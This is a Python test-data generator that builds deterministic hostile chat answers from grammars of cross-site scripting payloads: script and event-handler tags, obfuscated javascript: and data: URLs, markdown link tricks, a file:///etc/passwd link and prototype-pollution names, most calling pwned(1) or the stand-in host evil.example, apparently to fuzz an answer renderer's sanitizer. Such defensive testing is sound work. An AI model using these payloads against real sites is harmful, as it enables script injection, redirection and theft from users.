"""Answers that try to run a script, load something or lead a reader away, made from grammars; always the same ones.

Every one calls `pwned` or asks `evil.example` where it succeeds.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import chain, cycle, islice, product

CODE = "pwned(1)"
EVIL = "https://evil.example/x"

HTML = (
    "<script>{code}</script>",
    "<SCRIPT SRC={evil}></SCRIPT>",
    "<script type=module>import '{evil}'</script>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<img src=x onerror={code}>",
    "<img src='{evil}' onload=\"{code}\">",
    "<img/src=x/onerror={code}//",
    "<img srcset='{evil} 1x, {evil} 2x'>",
    "<picture><source srcset={evil}><img></picture>",
    "<img src='{evil}?",
    "<svg onload={code}></svg>",
    "<svg><script>{code}</script></svg>",
    "<svg><a xlink:href='javascript:{code}'><text>x</text></a></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to='javascript:{code}'></svg>",
    "<svg><image href='{evil}'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={code}>#x'/></svg>",
    "<svg><style><img src=x onerror={code}></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{code}</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}></style></mglyph></table></mtext></math>",
    "<math href='javascript:{code}'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={code}></annotation-xml></math>",
    "<iframe src='javascript:{code}'></iframe>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<frameset onload={code}><frame src={evil}></frameset>",
    "<object data='{evil}' type=text/html></object>",
    "<embed src='javascript:{code}'>",
    "<link rel=stylesheet href={evil}>",
    "<link rel=prefetch href={evil}><link rel=preload as=image href={evil}>",
    "<style>@import url({evil});</style>",
    "<style>* {{ background: url({evil}) }}</style>",
    "<p style=\"background:url('{evil}')\">x</p>",
    '<p style="width:expression({code})">x</p>',
    '<meta http-equiv=refresh content="0;url={evil}">',
    '<meta http-equiv=refresh content="0;url=javascript:{code}">',
    "<base href={evil}><a href=x>x</a>",
    "<form action=javascript:{code}><input type=submit autofocus></form>",
    "<form id=f action={evil}></form><button form=f formaction=javascript:{code}>x</button>",
    "<input autofocus onfocus={code}>",
    "<textarea autofocus onfocus={code}></textarea>",
    "<select autofocus onfocus={code}>",
    "<details open ontoggle={code}><summary>x</summary></details>",
    "<video src=x poster={evil} onerror={code}></video>",
    "<audio src={evil} onerror={code} autoplay></audio>",
    "<video><source onerror={code} src=x></video>",
    "<body onload={code}>",
    "<marquee onstart={code}>x</marquee>",
    "<template><script>{code}</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror={code}></template></div>",
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    "<!--><img src=x onerror={code}>-->",
    "<!--\n--!><img src=x onerror={code}>",
    "<![CDATA[><img src=x onerror={code}>]]>",
    '<?xml-stylesheet href="javascript:{code}"?>',
    "<title></title><img src=x onerror={code}>",
    "</textarea></title></style></script><img src=x onerror={code}>",
    '<a href="javascript:{code}" autofocus onfocus={code} ping={evil}>x</a>',
    '<b onmouseover={code}>x</b><i style="background:url({evil})">x</i>',
    "<kbd onclick={code}>x</kbd> <sub id=__proto__>x</sub> <sup class={evil}>x</sup>",
    "<b><img src=x onerror={code}></b><kbd><script>{code}</script></kbd>",
    "<br onload={code}><br/onclick={code}>",
    "<x id=x tabindex=1 onfocus={code} autofocus>x</x>",
    "<div style=animation-name:x onanimationstart={code}>",
    "<portal src={evil}></portal><fencedframe src={evil}></fencedframe>",
    "<glossator-chat server={evil} onclick={code}></glossator-chat>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;img src=x onerror={code}&#62;",
    "\\<script>{code}\\</script>",
    "＜script＞{code}＜/script＞",
    "<\0script>{code}</script>",
    "<scr\u200bipt>{code}</script>",
    "\ufeff<img src=x onerror={code}>",
    "\u202e<img src=x onerror={code}>\u202c",
)

URLS = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "javascript:{code}//https://book.example",
    "javascript://book.example/%0a{code}",
    " javascript:{code}",
    "\x01javascript:{code}",
    "\ufeffjavascript:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    "java\rscript:{code}",
    "java\\script:{code}",
    "java&#9;script:{code}",
    "java&Tab;script:{code}",
    "java&NewLine;script:{code}",
    "&#106;avascript:{code}",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{code}",
    "&#0000106avascript:{code}",
    "javascript&colon;{code}",
    "javascript&#58;{code}",
    "javascript%3A{code}",
    "javascript\u200b:{code}",
    "ｊａｖａｓｃｒｉｐｔ:{code}",
    "jаvascript:{code}",
    "feed:javascript:{code}",
    "view-source:javascript:{code}",
    "vbscript:{code}",
    "livescript:{code}",
    "mocha:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={code}>",
    "DATA:text/javascript,{code}",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "about:blank",
    "mailto:x@evil.example",
    "{evil}",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example/x",
    "https:/evil.example/x",
    "https://book.example@evil.example/x",
    "https://evil.example/x?q=</a><img src=x onerror={code}>",
    'https://evil.example/" onmouseover="{code}',
    "http://[",
    "https://%",
    "__proto__",
    "constructor",
    "",
)

MARKS = (
    "[words]({url})",
    "[1]({url})",
    "[words](<{url}>)",
    '[words]({url} "onmouseover={code}")',
    "[words](\n{url}\n)",
    "![words]({url})",
    "![words]({url} 'onerror={code}')",
    "[![words]({url})]({url})",
    "[words][ref]\n\n[ref]: {url}",
    "[words][]\n\n[words]: <{url}> 'title'",
    '![words][ref]\n\n[ref]: {url} "title"',
    "[ref]\n\n> [ref]: {url}",
    "<{url}>",
    "{url}",
    "[[words]({url})]({url})",
    "[`words`]({url})",
    "**[words]({url})**",
    "![words]({url}){{onerror={code}}}",
    "[^1]\n\n[^1]: <{url}> ![x]({url})",
    "[words\\]]({url})",
    "[words](({url}))",
    "|[words]({url})|![words]({url})|\n|---|---|\n|<{url}>|[1]({url})|",
)

SETTINGS = (
    "{it}",
    "> {it}",
    "> > - {it}\n> >   1. {it}",
    "- {it}\n  - {it}\n    - {it}",
    "1. {it}\n2. [2]",
    "# {it}",
    "| a | b |\n|:--|--:|\n| {it} | [1] |",
    "```html\n{it}\n```",
    "```{it}\ncode\n```",
    '~~~ " onclick={code} x="\n{it}',
    "`{it}`",
    "    {it}",
    "**{it}**",
    "*_~~{it}~~_*",
    "${it}$ and $${it}$$",
    "[{it}](/docs/x)",
    "![{it}](/docs/x)",
    "<b>{it}</b>",
    "- [ ] {it}",
    "A sentence. [1]{it}[2][3] [99999999999999999999] [-1] [1e9] [__proto__] [constructor][toString]",
)

NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "</script>",
    "\u202egnitaehc",
    "{{constructor}}",
    "${pwned(1)}",
)


@dataclass(frozen=True)
class CitedPlace:
    n: int
    url: str
    words: str


@dataclass(frozen=True)
class Hostile:
    """One answer, in the pieces in which it is told."""

    question: str
    claims: Sequence[str]
    places: Sequence[CitedPlace]
    disclaimer: str | None
    is_refusal: bool
    is_failure: bool

    @property
    def text(self) -> str:
        return "".join(self.claims)


def hostile_answers(count: int = 500, batch: int = 0) -> list[Hostile]:
    """Each vector alone first, in one setting after the other; then mixtures of them. So many for each batch."""
    dice = random.Random(7)
    texts = enumerate(chain(_alone(), _mixed(dice)))
    answers = (_answer(number, text, dice) for number, text in texts)
    return list(islice(answers, batch * count, (batch + 1) * count))


def _alone() -> Iterator[str]:
    settings = cycle(SETTINGS)
    addresses = cycle(URLS)
    for vector in HTML:
        yield _filled(next(settings), it=_filled(vector))
    for url in URLS:
        yield "\n\n".join(_filled(mark, url=_filled(url)) for mark in MARKS)
    for mark, setting in product(MARKS, SETTINGS[:4]):
        yield _filled(setting, it=_filled(mark, url=_filled(next(addresses))))


def _mixed(dice: random.Random) -> Iterator[str]:
    while True:
        parts = [_vector(dice) for _ in range(dice.randint(2, 5))]
        settings = [_filled(dice.choice(SETTINGS), it=part) for part in parts]
        yield dice.choice(("\n\n", "\n", " ", "")).join([*settings, dice.choice(NAMES)])


def _vector(dice: random.Random) -> str:
    if dice.random() < 0.5:
        return _filled(dice.choice(HTML))
    return _filled(dice.choice(MARKS), url=_filled(dice.choice(URLS)))


def _filled(form: str, it: str = "", url: str = "") -> str:
    """Braces that are doubled in a form are its own."""
    return form.format(code=CODE, evil=EVIL, it=it, url=url)


def _answer(number: int, text: str, dice: random.Random) -> Hostile:
    places = [
        CitedPlace(n, _filled(dice.choice(URLS)), _filled(dice.choice(SETTINGS), it=_vector(dice)))
        for n in (1, 2, dice.choice((3, 99, 999_999_999_999)))
    ]
    return Hostile(
        question=f"{number}: {_vector(dice)} {dice.choice(NAMES)}"[:1900],
        claims=_torn(text, dice),
        places=places,
        disclaimer=_vector(dice) if dice.random() < 0.3 else None,
        is_refusal=number % 5 == 4,
        is_failure=number % 50 == 49,
    )


def _torn(text: str, dice: random.Random) -> Sequence[str]:
    """In up to six pieces, torn anywhere: also in the middle of a tag, a target or an entity."""
    cuts = sorted(dice.sample(range(len(text) + 1), k=min(dice.randint(0, 5), len(text))))
    return [
        text[begin:end] for begin, end in zip([0, *cuts], [*cuts, len(text)], strict=True) if begin < end
    ] or [text]
